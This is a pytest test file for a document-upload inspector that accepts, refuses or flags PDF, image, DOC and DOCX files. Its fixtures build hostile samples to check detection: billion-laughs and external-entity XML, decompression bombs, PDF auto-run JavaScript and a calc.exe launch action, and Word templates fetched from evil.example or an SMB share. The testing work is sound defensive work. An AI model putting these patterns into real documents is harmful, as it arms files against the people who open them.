"""What inspection finds in files and what it refuses: every type, every code, locked and armed ones."""

from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from insurenz.core.db import is_storable
from insurenz.documents import sniff
from insurenz.documents.errors import refused
from insurenz.documents.inspect import Findings, Inspector, Refused
from insurenz.documents.inspection.findings import TEXT_CHARACTERS
from tests.documents import samples
from tests.documents.samples import DATA, docx, image, linked, ole, pdf, png, png_header, word_stream


@pytest.fixture(scope="module")
def inspector() -> Iterator[Inspector]:
    running = Inspector(processes=1)
    yield running
    running.close()


@pytest.fixture
def look(inspector: Inspector, tmp_path: Path):
    def look(content: bytes, kind: str) -> Findings:
        (tmp_path / "file").write_bytes(content)
        return inspector.inspect(tmp_path / "file", kind)

    return look


@pytest.mark.parametrize(
    ("name", "kind", "findings"),
    [
        (
            "bill.pdf",
            "pdf",
            Findings(
                pages=1,
                details={
                    "pdf_version": "1.4",
                    "title": "Invoice",
                    "created": "2022-01-12T19:13:53+00:00",
                },
            ),
        ),
        ("photo.jpg", "jpeg", Findings(width=612, height=423, patches=[[20, 1559, ""]])),
        ("scan.png", "png", Findings(width=1305, height=1674, patches=[[84, 881, ""], [46140, 46599, ""]])),
        (
            "letter.doc",
            "doc",
            Findings(
                details={
                    "title": "The quick brown fox jumps over the lazy dog",
                    "author": "Nevin Nollop",
                    "created": "2005-05-26T12:57:00+00:00",
                }
            ),
        ),
        ("letter.docx", "docx", Findings()),
    ],
)
def test_a_real_file_of_each_type_is_taken(
    inspector: Inspector, name: str, kind: str, findings: Findings
) -> None:
    assert inspector.inspect(DATA / name, kind) == findings


OPEN, WORD, OFFICE = (
    "application/vnd.openxmlformats-officedocument",
    "application/vnd.ms-word",
    "application/vnd.ms-office",
)
LETTER = f"{OPEN}.wordprocessingml.document.main+xml"
TAKEN = {
    "2,000 pages": (pdf(pages=2000), "pdf", Findings(pages=2000)),
    "junk before": (b"\r\n" * 500 + pdf(), "pdf", Findings(pages=1)),
    "no table of objects": (pdf().replace(b"startxref", b"startxxxx"), "pdf", Findings(pages=1)),
    "text that names a script": (pdf(title="/JavaScript /JS"), "pdf", Findings(pages=1)),
    "bytes after the end": (image("JPEG") + bytes(5000), "jpeg", Findings(width=40, height=30)),
    "page after the picture": (image("PNG") + b"<html>", "png", Findings(width=40, height=30)),
    "A4 at 1,200 dpi": (
        png(png_header(9921, 14031), samples.png_picture(14031 * 9922), (b"IEND", b"")),
        "png",
        Findings(width=9921, height=14031),
    ),
    "text under another name": (docx(part="word/document2.xml"), "docx", Findings()),
    "template of one's own": (linked(r"file:///C:\Normal.dotm"), "docx", Findings()),
    "a sheet in a letter": (docx({"word/media/a.xlsx": samples.archive({"a": "b"})}), "docx", Findings()),
    "broken details": (docx({"docProps/core.xml": "<broken"}), "docx", Findings()),
    "details with entities": (docx({"docProps/core.xml": "<!DOCTYPE a []><a/>"}), "docx", Findings()),
    "one that Word calls strict": (docx(words=samples.STRICT), "docx", Findings()),
    "types in UTF-16": (samples.package({"/word/document.xml": LETTER}, "utf-16"), "docx", Findings()),
    "parts named in capitals": (samples.package({"/WORD/document.xml": LETTER}), "docx", Findings()),
    "a type for every part": (samples.package({".xml": LETTER}), "docx", Findings()),
    "a link to the web": (
        docx({"word/_rels/document.xml.rels": samples.links("https://a.example", "hyperlink")}),
        "docx",
        Findings(),
    ),
    "Word 6": (ole({"WordDocument": word_stream(0xA5DC)}), "doc", Findings()),
}


@pytest.mark.parametrize("case", TAKEN)
def test_unusual_but_honest_files_are_taken(look, case: str) -> None:
    content, kind, findings = TAKEN[case]
    found = look(content, kind)
    assert (found.pages, found.width, found.height) == (findings.pages, findings.width, findings.height)
    assert (found.is_encrypted, found.has_active_content) == (False, False)


MISMATCHES = {
    "sheet with a letter among its parts": (
        samples.package({"/xl/workbook.xml": f"{OPEN}.spreadsheetml.sheet.main+xml"}),
        "docx",
    ),
    "sheet as letter": (docx(part="xl/workbook.xml", kind="spreadsheetml.sheet"), "docx"),
    "plain zip": (samples.archive({"readme.txt": "hello"}), "docx"),
    "zip with a document but no types": (samples.archive({"word/document.xml": samples.WORDS}), "docx"),
    "part that is not there": (
        docx(part="word/other.xml").replace(b"word/other.xml", b"word/0ther.xml"),
        "docx",
    ),
    "DOC as DOCX": (ole({"WordDocument": word_stream()}), "docx"),
    "XLS as DOC": (ole({"Workbook": b"x"}), "doc"),
    "locked DOCX as DOC": (ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "doc"),
}
CORRUPT = {
    "PDF cut short": (pdf()[:200], "pdf"),
    "only a marker": (b"%PDF-1.7\n<html>", "pdf"),
    "PDF without pages": (pdf(pages=0), "pdf"),
    "JPEG cut in its header": (image("JPEG")[:100], "jpeg"),
    "JPEG cut in its picture": (image("JPEG")[:-4], "jpeg"),
    "JPEG without size": (samples.jpeg_of_size(0, 30), "jpeg"),
    "PNG cut short": (image("PNG")[:-6], "png"),
    "PNG with a wrong sum": (image("PNG").replace(b"IDAT", b"IDAT\xff"), "png"),
    "JPEG with another one's end": (image("JPEG")[:-2] + b"\xff\xda" + bytes(2) + b"\xff\xd9", "jpeg"),
    "JPEG that draws nothing": (
        b"\xff\xd8" + image("JPEG")[2:].partition(b"\xff\xda")[0] + b"\xff\xd9",
        "jpeg",
    ),
    "PNG whose picture does not unpack": (png(png_header(9, 9), (b"IDAT", b"zip"), (b"IEND", b"")), "png"),
    "PNG with half a picture": (png(png_header(9, 9), samples.png_picture(45), (b"IEND", b"")), "png"),
    "PNG without a picture": (png(png_header(9, 9), (b"IEND", b"")), "png"),
    "OLE cut in its header": (ole({"WordDocument": word_stream()})[:400], "doc"),
    "OLE without document": (ole({"WordDocument": b"nothing"}), "doc"),
    "zip cut short": (docx()[:-40], "docx"),
    "text with a wrong sum": (docx().replace(b"PK\x01\x02", b"PK\x01\x03"), "docx"),
    "DOC cut short": (ole({"WordDocument": word_stream(), "0Table": b"x"})[:-4096], "doc"),
    "DOC without its tables": (ole({"WordDocument": word_stream()}), "doc"),
    "text that is no XML": (docx(words="hello"), "docx"),
    "text that breaks off": (docx(words="<d><unclosed></d>"), "docx"),
    "types that are no XML": (
        samples.archive({"[Content_Types].xml": "x", "word/document.xml": samples.WORDS}),
        "docx",
    ),
    "entity from elsewhere": (docx(words='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///x">]><d/>'), "docx"),
}
BOMBS = {
    "PNG of 30,000 x 30,000": (png(png_header(30000, 30000), (b"IDAT", b""), (b"IEND", b"")), "png"),
    "PNG with a packed text": (
        png(
            png_header(1, 1),
            (b"zTXt", b"a\0\0" + samples.zlib.compress(samples.zeros(2))),
            (b"IDAT", b""),
            (b"IEND", b""),
        ),
        "png",
    ),
    "JPEG of 60,000 x 64,000": (samples.jpeg_of_size(60000, 64000), "jpeg"),
    "JPEG of islands of comments": (samples.of_islands(image("JPEG"), 1001), "jpeg"),
    "text of 100 MB": (docx(words=samples.zeros(100)), "docx"),
    "picture of 100 MB": (docx({"word/media/a.bmp": samples.zeros(100)}), "docx"),
    "too many parts": (docx({f"word/{n}": "" for n in range(5001)}), "docx"),
    "zips in zips": (docx({"word/embeddings/a.zip": samples.nested(3)}), "docx"),
    "a billion laughs": (
        docx(words='<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'),
        "docx",
    ),
    "a billion laughs behind a long comment": (
        docx(words=f'<!--{"x" * 100_000}--><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'),
        "docx",
    ),
    "a billion laughs in UTF-16": (
        docx(words='<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'.encode("utf-16")),
        "docx",
    ),
}
REFUSED = [
    (code, case, *sample)
    for code, samples_ in (("type_mismatch", MISMATCHES), ("corrupt", CORRUPT), ("bomb", BOMBS))
    for case, sample in samples_.items()
]


@pytest.mark.parametrize(
    ("code", "content", "kind"), [(r[0], *r[2:]) for r in REFUSED], ids=[r[1] for r in REFUSED]
)
def test_a_file_that_is_not_what_it_seems_is_refused_by_its_code(
    look, code: str, content: bytes, kind: str
) -> None:
    with pytest.raises(Refused) as caught:
        look(content, kind)
    assert caught.value.code == code


@pytest.mark.parametrize("code", ["corrupt", "bomb", "infected"])
def test_the_codes_of_inspection_name_the_file_and_what_would_be_right(code: str) -> None:
    problem = refused(code, "bill.pdf")
    assert (problem.status, problem.code) == (422, code)
    assert [error.public() for error in problem.errors] == [
        {"field": "files", "code": code, "detail": problem.detail, "file_name": "bill.pdf"}
    ]


LOCKED = {
    "PDF with a password": (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "pdf", None),
    "PDF that only limits": (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "pdf", 1),
    "DOC": (ole({"WordDocument": word_stream(flags=0x0100), "0Table": b"x"}), "doc", None),
    "DOCX": (ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "docx", None),
    "PDF with a certificate": (samples.pdf_locked_by_certificate(), "pdf", None),
}


@pytest.mark.parametrize("case", LOCKED)
def test_a_locked_file_is_taken_and_marked(look, case: str) -> None:
    content, kind, pages = LOCKED[case]
    found = look(content, kind)
    assert (found.is_encrypted, found.has_active_content, found.pages) == (True, False, pages)


packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
ARMED = {
    "script on opening": (pdf(catalogue={"/OpenAction": samples.script()}), "pdf"),
    "script in packed objects": (pdf(catalogue={"/OpenAction": samples.script()}, **packed), "pdf"),
    "script under an escaped name": (
        pdf(catalogue={"/OpenAction": samples.script()})
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/J#53"),
        "pdf",
    ),
    "script in a list of names": (
        pdf(catalogue={"/Names": Dictionary(JavaScript=Dictionary(Names=Array(["a", samples.script()])))}),
        "pdf",
    ),
    "script in a locked PDF": (
        pdf(catalogue={"/OpenAction": samples.script()}, encryption=pikepdf.Encryption(owner="o", user="u")),
        "pdf",
    ),
    "script in a locked PDF under an escaped name": (
        pdf(
            catalogue={"/OpenAction": samples.script()}, encryption=pikepdf.Encryption(owner="o", user="u")
        ).replace(b"/JavaScript", b"/J#61vaScript"),
        "pdf",
    ),
    "program": (pdf(catalogue={"/OpenAction": Dictionary(S=Name.Launch, F="calc.exe")}), "pdf"),
    "embedded file": (samples.pdf_with_file(), "pdf"),
    "form with scripts": (pdf(catalogue={"/AcroForm": Dictionary(XFA="x", Fields=Array([]))}), "pdf"),
    "DOC with macros": (ole({"WordDocument": word_stream(), "Macros": b"x", "0Table": b"x"}), "doc"),
    "DOC with a file": (ole({"WordDocument": word_stream(), "\x01Ole10Native": b"x", "0Table": b"x"}), "doc"),
    "DOCX with macros": (docx({"word/vbaProject.bin": b"x"}), "docx"),
    "DOCX with a file": (docx({"word/embeddings/oleObject1.bin": b"x"}), "docx"),
    "DOCX with a template from the web": (linked("https://evil.example/a.dotm"), "docx"),
    "DOCX with a template from a share": (linked(r"file:///\\10.0.0.1\share\a.dotm"), "docx"),
    "DOCX whose header takes an object from the web": (
        docx({"word/_rels/header1.xml.rels": samples.links("https://evil.example/a", "oleObject")}),
        "docx",
    ),
    "DOCX with a template that is spelled in entities": (
        docx({"word/_rels/a.xml.rels": samples.links("https://evil.example/a", "frame", "Extern&#97;l")}),
        "docx",
    ),
    "DOCX with macros under another name": (
        samples.package(
            {"/word/document.xml": f"{WORD}.document.macroEnabled.main+xml", "/a.bin": f"{OFFICE}.vbaProject"}
        ),
        "docx",
    ),
}


@pytest.mark.parametrize("case", ARMED)
def test_active_content_is_taken_and_flagged(look, case: str) -> None:
    content, kind = ARMED[case]
    assert look(content, kind).has_active_content is True


@pytest.mark.parametrize(
    ("stated", "kept"),
    [
        ("Rechnung\0 17", "Rechnung 17"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("one\r\n two\t three ", "one two three"),
        ("രസീത\u200d 😀", "രസീത\u200d 😀"),
        ("x" * 100_000, "x" * TEXT_CHARACTERS),
    ],
)
def test_what_a_file_says_about_itself_is_cleaned_and_cut(look, stated: str, kept: str) -> None:
    assert look(pdf(title=stated), "pdf").details["title"] == kept
    assert is_storable(kept)


def test_details_of_a_docx_come_from_its_properties(look) -> None:
    found = look(docx({"docProps/core.xml": samples.CORE.format(title="A &lt;b&gt;\n letter")}), "docx")
    assert found.details == {"title": "A <b> letter", "author": "Asha", "created": "2026-01-02T03:04:05Z"}


@pytest.mark.parametrize("name", ["bill.pdf", "photo.jpg", "scan.png", "letter.doc", "letter.docx"])
def test_inspection_takes_every_type_under_the_name_that_sniffing_gives_it(
    inspector: Inspector, name: str
) -> None:
    kind = sniff.agreed_type((DATA / name).read_bytes(), sniff.extension_of(name))
    assert kind is not None
    inspector.inspect(DATA / name, kind.name)
